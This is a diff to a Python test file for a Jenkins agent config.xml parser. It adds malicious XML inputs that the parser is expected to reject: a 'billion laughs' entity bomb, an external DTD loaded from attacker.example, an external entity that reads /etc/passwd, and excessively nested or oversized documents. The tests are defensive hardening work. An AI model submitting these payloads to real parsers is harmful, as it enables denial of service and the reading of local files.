@@ -88,11 +88,25 @@ def test_unknown_node_properties_are_kept_as_leaves():
         "https://wiki/agents"
 
 
+# 295 bytes that expand to 1 MB of description with a plain XML parser.
+LAUGHS = ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
+          + "".join('<!ENTITY %s "%s">' % (name, ("&%s;" % previous) * 10) for previous, name in zip("abcde", "bcdef"))
+          + ']><slave><name>n</name><description>&f;</description></slave>')
+
+
 @pytest.mark.parametrize("text, message", [
     (fixture("agent-config-ssh-envvars.xml")[:400], "unclosed token"),
     ("", "no element found"),
     ("<html><head><title>Sign in</title></head><body/></html>", "not an agent config.xml"),
     ("<slave><name>x</name>", "no element found"),
+    # What Jenkins never writes: a DTD, entities (the "billion laughs"), external entities, absurd nesting.
+    (LAUGHS, "DTD or entity declaration"),
+    ('<?xml version="1.0"?><!DOCTYPE slave SYSTEM "http://attacker.example/x.dtd"><slave><name>x</name></slave>',
+     "DTD or entity declaration"),
+    ('<!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><slave><name>&f;</name></slave>',
+     "DTD or entity declaration"),
+    ("<slave><name>x</name>" + "<p>" * 40 + "</p>" * 40 + "</slave>", "more than 32 elements deep"),
+    ("<slave><name>x</name>" + "<p/>" * 20001 + "</slave>", "20000 elements in all"),
 ])
 def test_truncated_or_foreign_documents_raise_parse_error(text, message):
     with pytest.raises(ParseError, match=message):
